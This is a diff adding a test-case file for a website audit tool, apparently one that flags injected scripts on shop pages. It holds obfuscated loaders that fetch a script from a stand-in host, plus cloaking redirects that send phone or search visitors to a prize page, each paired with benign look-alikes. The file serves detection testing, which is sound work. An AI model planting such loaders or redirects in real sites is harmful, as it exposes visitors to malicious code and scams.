@@ -1,0 +1,153 @@
+/** Sites with scripts that look hacked, and honest ones that look like them. */
+import { onBody, script, shop, site } from "#tests/cases/site-audit/small-shop.ts";
+import type { SiteWideCase } from "#tests/cases/site-audit/site-wide-case.ts";
+
+const codes = (text: string) => [...text].map((sign) => sign.charCodeAt(0)).join(",");
+
+const hexadecimal = (text: string) =>
+  [...text].map((sign) => `\\x${sign.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
+
+const percents = (text: string) =>
+  [...text].map((sign) => `%${sign.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
+
+const LOADER =
+  'var s=document.createElement("script");s.src="https://odd-host.example/a.js";document.head.appendChild(s)';
+
+const scripts: readonly SiteWideCase[] = [
+  site("packed-script", true, "base64 that is run", shop(script(`eval(atob("${btoa(LOADER)}"))`))),
+  site(
+    "packed-script",
+    true,
+    "character codes that are run",
+    shop(script(`eval(String.fromCharCode(${codes(LOADER)}))`)),
+  ),
+  site(
+    "packed-script",
+    true,
+    "escapes that are written into the page",
+    shop(
+      script(`document.write("${hexadecimal('<script src="https://odd-host.example/a.js">')}")`),
+    ),
+  ),
+  site(
+    "packed-script",
+    true,
+    "an address in character codes",
+    shop(
+      script(
+        `var a=document.createElement("script");a.src=String.fromCharCode(${codes("https://odd-host.example/a.js")});`,
+      ),
+    ),
+  ),
+  site(
+    "packed-script",
+    false,
+    "a mail address",
+    shop(
+      script(`document.write(unescape("${percents('<a href="mailto:us@shop.example">us</a>')}"))`),
+    ),
+  ),
+  site(
+    "packed-script",
+    false,
+    "an old counter of visitors",
+    shop(
+      script(
+        `document.write(unescape("%3Cscript src='" + host + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`,
+      ),
+    ),
+  ),
+  site(
+    "packed-script",
+    false,
+    "settings",
+    shop(script(`var settings = JSON.parse(atob("${btoa('{"cloth":"wool","price":1200}')}"));`)),
+  ),
+  site(
+    "packed-script",
+    false,
+    "a minified library",
+    shop(
+      script(
+        '!function(e,t){var n=e.createElement("script");n.src="https://www.googletagmanager.com/gtm.js",t.appendChild(n)}(document,document.head);',
+      ),
+    ),
+  ),
+  site(
+    "packed-script",
+    false,
+    "code that is shown in an article",
+    shop(onBody(`<pre>eval(atob("${btoa(LOADER)}"))</pre>`)),
+  ),
+];
+
+const redirects: readonly SiteWideCase[] = [
+  site(
+    "visitor-redirect",
+    true,
+    "phones",
+    shop(
+      script(
+        'if (/android|iphone/i.test(navigator.userAgent)) { window.location.href = "https://prizes.example/win"; }',
+      ),
+    ),
+  ),
+  site(
+    "visitor-redirect",
+    true,
+    "visitors from a search",
+    shop(
+      script(
+        'var r = document.referrer; if (r.indexOf("google.") > 0) { location.replace("https://prizes.example/win"); }',
+      ),
+    ),
+  ),
+  site(
+    "visitor-redirect",
+    true,
+    "phones, to a packed address",
+    shop(
+      script(
+        `var to = "//prizes.example/win"; if (navigator.userAgent.match(/Mobile/)) { location = to; } if (/iPad/.test(navigator.userAgent)) location.href = atob("${btoa("https://prizes.example/win")}")`,
+      ),
+    ),
+  ),
+  site(
+    "visitor-redirect",
+    false,
+    "to the site’s own version for phones",
+    shop(
+      script(
+        'if (/android|iphone/i.test(navigator.userAgent)) { location.href = "https://m.shop.example/"; }',
+      ),
+    ),
+  ),
+  site(
+    "visitor-redirect",
+    false,
+    "to the shop for apps",
+    shop(
+      script(
+        'if (/iphone/i.test(navigator.userAgent)) { location.href = "https://apps.apple.com/app/id1"; }',
+      ),
+    ),
+  ),
+  site(
+    "visitor-redirect",
+    false,
+    "for everybody",
+    shop(script('location.href = "https://new-shop.example/";')),
+  ),
+  site(
+    "visitor-redirect",
+    false,
+    "that is counted alone",
+    shop(
+      script(
+        'var phone = /android|iphone/i.test(navigator.userAgent); var from = document.referrer; send("https://count.example/", phone, from, location.href == "https://prizes.example/");',
+      ),
+    ),
+  ),
+];
+
+export const hackedScripts: readonly SiteWideCase[] = [...scripts, ...redirects];
